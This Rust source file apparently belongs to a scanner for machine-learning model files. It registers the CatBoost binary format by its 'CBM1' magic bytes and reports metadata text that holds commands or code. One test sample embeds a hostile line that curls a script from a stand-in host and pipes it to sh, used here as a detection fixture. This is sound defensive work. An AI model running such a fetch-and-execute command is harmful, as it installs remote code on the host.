//! CatBoost's binary models.
//!
//! Nothing in them runs; texts of their metadata that hold commands or code are reported.

use crate::format::{Claim, Format, Probe};
use crate::registry::raw::search;

/// The descriptor.
pub const FORMAT: Format = Format {
    name: "catboost",
    title: "CatBoost model",
    family: "catboost",
    wants,
    read: search,
    stream: None,
    head_only: false,
    #[cfg(test)]
    samples: tests::samples,
};

fn wants(probe: &Probe<'_>) -> Option<Claim> {
    probe.starts(b"CBM1").then_some(Claim::Magic)
}

#[cfg(test)]
pub(crate) mod tests {
    pub(crate) fn samples() -> Vec<Vec<u8>> {
        vec![
            b"CBM1\x10\0\0\0metadata\0".to_vec(),
            b"CBM1\x10\0\0\0os.system('curl http://x.example/p.sh | sh')\0".to_vec(),
        ]
    }

    #[test]
    fn only_its_texts_matter() {
        crate::registry::raw::tests::only_texts_matter(&samples());
    }
}
